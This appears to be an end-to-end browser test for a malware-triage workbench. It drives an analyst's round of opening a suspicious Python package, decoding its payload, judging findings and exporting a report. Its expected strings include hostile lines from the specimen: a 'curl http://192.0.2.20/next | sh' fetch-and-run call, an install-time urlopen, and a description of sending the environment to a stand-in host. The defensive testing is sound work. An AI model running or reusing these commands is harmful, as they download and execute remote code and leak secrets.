import { createHash } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { displayBlock } from "../../main/model/text/display-text.ts";
import type { WebHost } from "../../main/web/start-web-host.ts";
import { assertNoComplaints, launchBrowser } from "./support/browser.ts";
import { buildSpecimen, ENCODED, PAYLOAD, SPECIMEN_NAME } from "./support/specimen.ts";
import { makeScratch, type Scratch, startHost, WorkbenchPage } from "./support/workbench.ts";

/**
 * The whole job, as an analyst does it, in a real browser on the real host: open, walk, read the payload in place, dismiss, confirm, note,
 * come back, export. The steps build on one another and run in order.
 */
const REASON = "An ordinary *update* check | reviewed";
const NOTE = "Sends the environment to 192.0.2.20.\nSeen on <import>.";

let browser: Browser;
let host: WebHost;
let scratch: Scratch;
let bench: WorkbenchPage;
let specimenFile = "";
const bytes = buildSpecimen();
/** Findings that the round is about, by their ids. */
let installed = "";
let decoded = "";

beforeAll(async () => {
	scratch = await makeScratch();
	specimenFile = join(scratch.folder, SPECIMEN_NAME);
	await writeFile(specimenFile, bytes);
	host = await startHost({ targets: [specimenFile], stateFolder: join(scratch.folder, "state") });
	browser = await launchBrowser();
	bench = await WorkbenchPage.open(browser, host.url);
});

afterAll(async () => {
	await browser?.close();
	await host?.close();
	await scratch?.remove();
});

describe("a round of triage", () => {
	it("opens the package given to the host, with its verdict and its story", async () => {
		await bench.ready();
		await bench.shows(SPECIMEN_NAME);
		expect(await bench.part("machine-verdict").first().innerText()).toMatch(/suspicious|malicious/);
		const story = await bench.part("story").innerText();
		expect(story).not.toContain("http://192");
		// The token is used up and gone from the address.
		expect(bench.page.url()).not.toContain("#");
	});

	it("walks all findings by keyboard, both ways, in the order of the list", async () => {
		const rows = await bench.rows();
		const byRule = (rule: string): string => rows.find((row) => row.rule === rule)?.id ?? "";
		installed = byRule("network-at-install");
		decoded = byRule("execution-of-decoded");
		expect([installed, decoded]).not.toContain("");

		await bench.selected(rows[0]?.id ?? "");
		const walked = [await bench.selectedId()];
		for (const [index] of rows.slice(1).entries()) {
			walked.push(await bench.stepFrom(walked.at(-1) ?? "", index % 2 === 0 ? "j" : "F8"));
		}
		expect(walked).toEqual(rows.map((row) => row.id));
		const back = [await bench.selectedId()];
		for (const [index] of rows.slice(1).entries()) {
			back.push(await bench.stepFrom(back.at(-1) ?? "", index % 2 === 0 ? "k" : "Shift+F8"));
		}
		expect(back).toEqual(rows.map((row) => row.id).reverse());
	});

	it("marks the selected finding in the text", async () => {
		await bench.walkTo(installed);
		await bench.page.locator(".viv-mark-selected").first().waitFor();
		expect(await bench.editorText()).toContain('urllib.request.urlopen("http://192.0.2.10/first?stage=install")');
		expect(await bench.part("finding-message").innerText()).not.toContain("http://192");
	});

	it("shows the payload decoded in place, under the literal it was decoded from", async () => {
		await bench.walkTo(decoded);
		const zone = bench.page.getByRole("region", { name: /^Decoded text from line 7: base64 → zlib → Python/ });
		if (await zone.isVisible()) {
			await bench.press("e");
			await zone.waitFor({ state: "detached" });
		}
		expect(await bench.editorText()).toContain("base64 → zlib → Python");
		await bench.press("e");
		await zone.locator(".view-line", { hasText: 'os.system("curl http://192.0.2.20/next | sh")' }).waitFor();
		const header = await zone.locator("header").first().innerText();
		expect(header).toContain(`base64 → zlib → Python, ${PAYLOAD.length} B`);
		expect(header).toContain("executed");
		// Wrapped over several rows, and whole.
		expect((await bench.editorText()).replace(/\s+/g, "")).toContain(ENCODED);
		expect(await zone.locator(".viv-mark").count()).toBeGreaterThan(0);
	});

	it("dismisses one with a reason, confirms one, notes one", async () => {
		await bench.walkTo(installed);
		await bench.press("f");
		await bench.part("dismiss-reason").fill(REASON);
		await bench.press("Enter");
		await bench.page.locator(`[data-finding="${installed}"][data-state="dismissed"]`).waitFor();

		await bench.walkTo(decoded);
		await bench.press("m");
		await bench.page.locator(`[data-finding="${decoded}"][data-state="confirmed"]`).waitFor();

		await bench.walkTo(decoded);
		await bench.press("n");
		await bench.page.keyboard.insertText(NOTE);
		await bench.press("Control+Enter");
		await bench
			.part("judged")
			.getByText(/^2 of \d+ findings judged/)
			.waitFor();
		expect((await bench.rows()).filter((row) => row.state !== "open")).toHaveLength(2);
	});

	/** What the screen says of the two findings. */
	async function outcome(): Promise<Record<string, string | undefined>> {
		const states = new Map((await bench.rows()).map((row) => [row.id, row.state]));
		await bench.walkTo(decoded);
		await bench.page.locator('[data-testid="judgement"]', { hasText: "confirmed" }).waitFor();
		const note = await bench.part("finding-note").inputValue();
		await bench.walkTo(installed);
		const judgement = await bench.page.locator('[data-testid="judgement"]', { hasText: "false positive" }).innerText();
		return { installed: states.get(installed), decoded: states.get(decoded), note, judgement };
	}

	const left = {
		installed: "dismissed",
		decoded: "confirmed",
		note: NOTE,
		judgement: expect.stringContaining(`“${REASON}”`) as string,
	};

	it("finds everything again after a reload", async () => {
		await bench.page.reload();
		await bench.ready();
		await bench
			.part("judged")
			.getByText(/^2 of \d+ findings judged/)
			.waitFor();
		expect(await outcome()).toEqual(left);
	});

	it("exports a Markdown report that tells what was found and what was done", async () => {
		await bench.press("Control+e");
		await bench.page.locator('[data-testid="export-preview"][data-format="markdown"]').waitFor();
		const preview = (await bench.part("export-preview").textContent()) ?? "";
		const download = bench.page.waitForEvent("download");
		await bench.part("export-save").click();
		const saved = await (await download).path();
		const report = await readFile(saved, "utf8");
		expect(displayBlock(report, 400_000)).toBe(preview);

		const between = (from: string, to: string): string => {
			const start = report.indexOf(from);
			expect(start, `the report has no "${from}"`).toBeGreaterThan(-1);
			const end = report.indexOf(to, start + from.length);
			return report.slice(start, end < 0 ? undefined : end);
		};
		expect(report).toContain(createHash("sha256").update(bytes).digest("hex"));
		const confirmed = between("## Confirmed findings (1)", "\n## ");
		expect(confirmed).toContain("execution-of-decoded");
		expect(confirmed).toContain("glass_frog/__init__.py:7");
		expect(confirmed).toContain("Confirmed by ada");
		expect(confirmed).toContain("Sends the environment to 192");
		expect(confirmed).toContain("base64 → zlib → Python");
		expect(confirmed).toContain("def send(data):");
		const dismissed = between("## Dismissed findings (1)", "\n## ");
		expect(dismissed).toContain("network-at-install");
		expect(dismissed).toContain("Dismissed by ada");
		// As text, not as Markdown.
		expect(dismissed).toContain("An ordinary \\*update\\* check \\| reviewed");
		expect(dismissed).not.toContain("execution-of-decoded");
		const indicators = between("## Indicators", "\n## ");
		expect(indicators).toContain("hxxp[://]192[.]0[.]2[.]10/first?stage=install");
		expect(indicators).toContain("192[.]0[.]2[.]20/collect");
		expect(report).not.toMatch(/https?:\/\/192/);
	});

	it("finds everything again on a new host, with the same file", async () => {
		await host.close();
		assertNoComplaints({ list: bench.complaints.list.filter((text) => !text.includes("WebSocket")) });
		await bench.close();
		host = await startHost({ targets: [specimenFile], stateFolder: join(scratch.folder, "state") });
		bench = await WorkbenchPage.open(browser, host.url);
		await bench.ready();
		expect(await outcome()).toEqual(left);
	});

	it("said nothing in the console and broke no policy", () => {
		expect(() => assertNoComplaints(bench.complaints)).not.toThrow();
	});
});
